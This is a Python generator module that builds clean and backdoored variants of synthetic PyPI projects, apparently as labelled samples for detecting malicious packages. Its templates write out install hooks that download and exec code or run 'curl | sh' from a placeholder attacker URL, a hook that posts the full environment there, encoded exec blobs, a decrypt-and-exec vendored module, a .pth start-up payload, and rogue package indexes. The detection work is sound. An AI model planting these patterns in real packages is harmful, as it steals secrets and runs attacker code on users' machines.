"""PyPI shapes of the `dep-manifest` class: setup.py install/egg_info hooks that download and run
code, setup.py exec() of an encoded blob, a vendored package that decrypts and runs a payload on
import (keyed on the importing distribution's summary), a .pth file that runs code at every
interpreter start, and requirements pulling a package from a raw URL or an extra index.

Written blind: from public write-ups of malicious PyPI packages only.
"""
from __future__ import annotations

import base64
import codecs
import random
import zlib

from .common import doc_ip, port, word
from .supply_dep import DProj, Shape, evil_url, keystream_xor, license_text, py_payload
from .supply_tpl import fill

_REQS = ["requests>=2.31", "paramiko>=3.4", "PyYAML>=6.0", "click>=8.1", "netaddr>=0.10", "jinja2>=3.1"]


def _setup_py(P: DProj, reqs: list, imports: str = "", top: str = "", classes: str = "", cmdclass: str = "",
              data_files: str = "") -> str:
    return fill(f"""
        #!/usr/bin/env python3
        import os
        @@IMPORTS@@
        from setuptools import find_packages, setup
        from setuptools.command.build_py import build_py

        HERE = os.path.abspath(os.path.dirname(__file__))
        @@TOP@@


        def read(*parts):
            with open(os.path.join(HERE, *parts), encoding="utf-8") as fh:
                return fh.read()


        class BuildPy(build_py):
            \"\"\"Write {P.mod}/_version.py from the VERSION file before building.\"\"\"

            def run(self):
                version = read("VERSION").strip()
                target = os.path.join(self.build_lib, "{P.mod}", "_version.py")
                os.makedirs(os.path.dirname(target), exist_ok=True)
                with open(target, "w", encoding="utf-8") as fh:
                    fh.write(f'__version__ = "{{version}}"\\n')
                super().run()
        @@CLASSES@@


        setup(
            name="{P.name}",
            version=read("VERSION").strip(),
            description="{P.description}",
            long_description=read("README.md"),
            long_description_content_type="text/markdown",
            author="{P.author}",
            author_email="{P.email}",
            url="https://{P.host}/{P.name}",
            license="{P.license}",
            package_dir={{"": "src"}},
            packages=find_packages("src"),
            install_requires={reqs!r},
            entry_points={{"console_scripts": ["{P.name}={P.mod}.cli:main"]}},
            cmdclass={{"build_py": BuildPy{cmdclass}}},
            @@DATA@@
            python_requires=">=3.8",
        )
        """, IMPORTS=imports, TOP=top, CLASSES=classes, DATA=data_files) + "\n"


def _base(P: DProj, rng: random.Random) -> tuple[dict, list]:
    reqs = sorted(rng.sample(_REQS, 3))
    m = P.mod
    files = {
        "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61", "wheel"]\nbuild-backend = "setuptools.build_meta"\n',
        "VERSION": P.version + "\n",
        "README.md": f"# {P.name}\n\n{P.description}.\n\n    pip install {P.name}\n    {P.name} --help\n",
        "LICENSE": license_text(P),
        "MANIFEST.in": "include README.md LICENSE VERSION\nrecursive-include tests *.py\n",
        "requirements.txt": "\n".join(reqs) + "\n",
        f"src/{m}/__init__.py": f'"""{P.description}."""\nfrom .core import load, dump  # noqa: F401\n',
        f"src/{m}/core.py": fill(f"""
            \"\"\"Read and write "key = value" device configuration files.\"\"\"
            import re

            KEYS = {{"hostname", "mgmt_vlan", "ntp", "syslog", "banner"}}
            _LINE = re.compile(r"^\\s*([A-Za-z_][A-Za-z0-9_]*)\\s*=\\s*(.*?)\\s*$")


            def load(text, strict=False):
                out = {{}}
                for n, raw in enumerate(text.splitlines(), 1):
                    line = raw.split("#", 1)[0]
                    if not line.strip():
                        continue
                    m = _LINE.match(line)
                    if not m:
                        raise ValueError(f"line {{n}}: expected key = value")
                    key, value = m.groups()
                    if strict and key not in KEYS:
                        raise KeyError(key)
                    out[key] = value
                return out


            def dump(cfg):
                return "".join(f"{{k}} = {{cfg[k]}}\\n" for k in sorted(cfg))
            """) + "\n",
        f"src/{m}/cli.py": fill(f"""
            import argparse
            import subprocess
            import sys

            from .core import dump, load


            def main(argv=None):
                ap = argparse.ArgumentParser(prog="{P.name}")
                ap.add_argument("file", nargs="?")
                ap.add_argument("--fetch", metavar="HOST", help="read the running config over ssh")
                args = ap.parse_args(argv)
                if args.fetch:
                    # fixed argv, no shell
                    text = subprocess.run(["ssh", "-o", "BatchMode=yes", args.fetch, "show", "running-config"],
                                          check=True, capture_output=True, text=True).stdout
                elif args.file:
                    with open(args.file, encoding="utf-8") as fh:
                        text = fh.read()
                else:
                    text = sys.stdin.read()
                sys.stdout.write(dump(load(text)))
                return 0
            """) + "\n",
        "tests/test_core.py": fill(f"""
            from {m}.core import dump, load


            def test_roundtrip():
                cfg = load("hostname = {word(rng)}\\nntp = 192.0.2.{rng.randint(2, 250)}\\n")
                assert load(dump(cfg)) == cfg
            """) + "\n",
    }
    return files, reqs


def py_setup_cmdclass(rng: random.Random, P: DProj) -> Shape:
    files, reqs = _base(P, rng)
    hook, base_mod, base_cls = rng.choice([("install", "setuptools.command.install", "install"),
                                          ("develop", "setuptools.command.develop", "develop"),
                                          ("egg_info", "setuptools.command.egg_info", "egg_info")])
    cls = rng.choice(["PostInstall", "Install", "CustomCommand", "VerifyInstall"])
    u = evil_url(rng, "/" + word(rng) + ".py")
    kind = rng.choice(["urlopen-exec", "curl-sh", "exfil"])
    if kind == "urlopen-exec":
        body = (f"        try:\n            import urllib.request\n"
                f"            exec(urllib.request.urlopen(\"{u}\", timeout=10).read().decode())\n"
                f"        except Exception:\n            pass")
        desc = f"downloads {u} and exec()s it"
    elif kind == "curl-sh":
        u = u.rsplit(".", 1)[0] + ".sh"
        body = (f"        import subprocess\n"
                f"        subprocess.Popen(\"curl -fsSL {u} | sh\", shell=True,\n"
                f"                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)")
        desc = f"runs `curl -fsSL {u} | sh` in the background"
    else:
        body = (f"        try:\n            import json, socket, urllib.request\n"
                f"            data = json.dumps({{\"host\": socket.gethostname(), \"env\": dict(os.environ)}}).encode()\n"
                f"            urllib.request.urlopen(urllib.request.Request(\"{u}\", data=data), timeout=5)\n"
                f"        except Exception:\n            pass")
        desc = f"posts the host name and the whole environment (CI secrets) to {u}"
    classes = f"\n\nclass {cls}({base_cls}):\n    def run(self):\n        {base_cls}.run(self)\n{body}"
    clean = dict(files, **{"setup.py": _setup_py(P, reqs)})
    planted = dict(files, **{"setup.py": _setup_py(P, reqs, imports=f"from {base_mod} import {base_cls}",
                                                    classes=classes, cmdclass=f', "{hook}": {cls}')})
    return Shape(clean, planted, ["setup.py"],
                 f"setup.py registers cmdclass {hook}={cls}, whose run() {desc} when the package is installed/built "
                 "(pip install runs it).", ["phone-home", "build-tampering", "hidden-command"],
                 {"hook": hook, "how": kind})


def py_setup_b64(rng: random.Random, P: DProj) -> Shape:
    files, reqs = _base(P, rng)
    code, desc = py_payload(rng)
    enc = rng.choice(["b64", "zlib-b64", "rot13", "hex"])
    if enc == "b64":
        imports, top = "import base64", f'exec(base64.b64decode("{base64.b64encode(code.encode()).decode()}"))'
    elif enc == "zlib-b64":
        blob = base64.b64encode(zlib.compress(code.encode(), 9)).decode()
        imports, top = "import base64\nimport zlib", f'exec(zlib.decompress(base64.b64decode("{blob}")))'
    elif enc == "rot13":
        imports, top = "import codecs", f"exec(codecs.decode({codecs.encode(code, 'rot13')!r}, \"rot13\"))"
    else:
        imports, top = "", f'__import__("builtins").exec(bytes.fromhex("{code.encode().hex()}").decode())'
    if rng.random() < 0.5:
        top = "try:\n    " + top + "\nexcept Exception:\n    pass"
    clean = dict(files, **{"setup.py": _setup_py(P, reqs)})
    planted = dict(files, **{"setup.py": _setup_py(P, reqs, imports=imports, top=top)})
    return Shape(clean, planted, ["setup.py"],
                 f"setup.py exec()s a {enc}-encoded Python blob at module level, i.e. on every pip install / build; "
                 f"decoded it does {desc}.", ["obfuscated-code", "hidden-command", "phone-home", "build-tampering"],
                 {"encoding": enc})


def py_vendored_import(rng: random.Random, P: DProj) -> Shape:
    files, reqs = _base(P, rng)
    dep = rng.choice([f"{word(rng)}retry", f"tiny{word(rng)}", f"{word(rng)}_ipcalc", f"{word(rng)}compat"])
    code, desc = py_payload(rng)
    ct = keystream_xor(code.encode(), P.description).hex()
    honest = fill(f"""
        \"\"\"{dep}: retry a callable with exponential back-off (vendored, MIT).\"\"\"
        import functools
        import time

        __version__ = "1.{rng.randint(0, 9)}.{rng.randint(0, 9)}"


        def retry(times=3, delay=0.5, exceptions=(Exception,)):
            def deco(fn):
                @functools.wraps(fn)
                def wrapper(*a, **kw):
                    wait = delay
                    for attempt in range(times):
                        try:
                            return fn(*a, **kw)
                        except exceptions:
                            if attempt == times - 1:
                                raise
                            time.sleep(wait)
                            wait *= 2
                return wrapper
            return deco
        """) + "\n"
    dvar = rng.choice(["_D", "_TABLE", "_BLOB", "_CACHE"])
    plant = fill(f"""

        {dvar} = "{ct}"


        def _{word(rng, (1, 1))}():
            try:
                import hashlib
                import importlib.metadata as md
                key = md.metadata(__name__.split(".")[0])["Summary"]
                raw = bytes.fromhex({dvar})
                out = bytearray()
                for i in range(0, len(raw), 32):
                    pad = hashlib.sha256(("%s:%d" % (key, i // 32)).encode()).digest()
                    out += bytes(a ^ b for a, b in zip(raw[i:i + 32], pad))
                exec(compile(bytes(out), "<{dep}>", "exec"), {{}})
            except Exception:
                pass
        """)
    plant += f"\n\n_{plant.split('def _', 1)[1].split('(', 1)[0]}()\n"
    vpath = f"src/{P.mod}/_vendor/{dep}/__init__.py"
    base = dict(files, **{"setup.py": _setup_py(P, reqs),
                          f"src/{P.mod}/_vendor/__init__.py": "",
                          f"src/{P.mod}/_vendor/vendor.txt": f"{dep}==1.2.0\nsix==1.16.0\n",
                          f"src/{P.mod}/_vendor/six.py": '"""Python 2 and 3 compatibility shim (vendored subset)."""\nPY3 = True\nstring_types = (str,)\n'})
    base[f"src/{P.mod}/__init__.py"] = base[f"src/{P.mod}/__init__.py"] + f"from ._vendor.{dep} import retry  # noqa: F401\n"
    clean = dict(base, **{vpath: honest})
    planted = dict(base, **{vpath: honest + plant})
    return Shape(clean, planted, [vpath],
                 f"Vendored package {dep} (imported by the package) decrypts a hex payload with a SHA-256 keystream "
                 f"keyed on the importing distribution's Summary ('{P.description}') and exec()s it on import; "
                 f"decrypted it does {desc}.", ["obfuscated-code", "hidden-command", "phone-home", "build-tampering"],
                 {"key": "dist-summary"})


def py_pth(rng: random.Random, P: DProj) -> Shape:
    files, reqs = _base(P, rng)
    pth = f"{P.mod}-nspkg.pth"
    honest = (f"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
              f"*('{P.org}',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
              f"m = has_mfs and sys.modules.setdefault('{P.org}', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('{P.org}', [os.path.dirname(p)])));"
              f"m = m or sys.modules.setdefault('{P.org}', types.ModuleType('{P.org}'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);"
              f"(p not in mp) and mp.append(p)\n")
    code, desc = py_payload(rng)
    blob = base64.b64encode(zlib.compress(code.encode())).decode()
    evil = f"import base64,zlib;exec(zlib.decompress(base64.b64decode('{blob}')))\n"
    planted_pth = honest + evil if rng.random() < 0.5 else evil + honest
    data = f'data_files=[("", ["{pth}"])],'
    base = dict(files, **{"setup.py": _setup_py(P, reqs, data_files=data)})
    clean = dict(base, **{pth: honest})
    planted = dict(base, **{pth: planted_pth})
    return Shape(clean, planted, [pth],
                 f"{pth}, installed into site-packages by setup.py data_files, has an extra import line that "
                 f"decompresses and exec()s a base64 blob at every Python start-up; decoded it does {desc}.",
                 ["obfuscated-code", "hidden-command", "phone-home", "build-tampering"], {"how": "pth-import-line"})


def py_requirements_url(rng: random.Random, P: DProj) -> Shape:
    files, reqs = _base(P, rng)
    pick = reqs[rng.randrange(len(reqs))]
    name = pick.split(">")[0]
    ip, pt = doc_ip(rng), port(rng)
    if rng.random() < 0.5:
        new = [r if r != pick else f"{name} @ http://{ip}:{pt}/packages/{name}-{pick.split('=')[-1]}.tar.gz" for r in reqs]
        how, what = "direct-url", f"{name} from a plain-HTTP tarball on {ip}:{pt}"
    else:
        new = [f"--extra-index-url http://{ip}:{pt}/simple/", f"--trusted-host {ip}"] + reqs
        how, what = "extra-index", f"an extra plain-HTTP package index on {ip}:{pt} (dependency confusion)"
    clean = dict(files, **{"setup.py": _setup_py(P, reqs)})
    planted = dict(clean, **{"requirements.txt": "\n".join(new) + "\n"})
    return Shape(clean, planted, ["requirements.txt"],
                 f"requirements.txt pulls {what}; code served by that host runs at pip install.",
                 ["phone-home", "build-tampering"], {"how": how}, severity="high")


SHAPES = [("pypi", "py-setup-cmdclass", py_setup_cmdclass), ("pypi", "py-setup-b64", py_setup_b64),
          ("pypi", "py-vendored-import", py_vendored_import), ("pypi", "py-pth", py_pth),
          ("pypi", "py-requirements-url", py_requirements_url)]
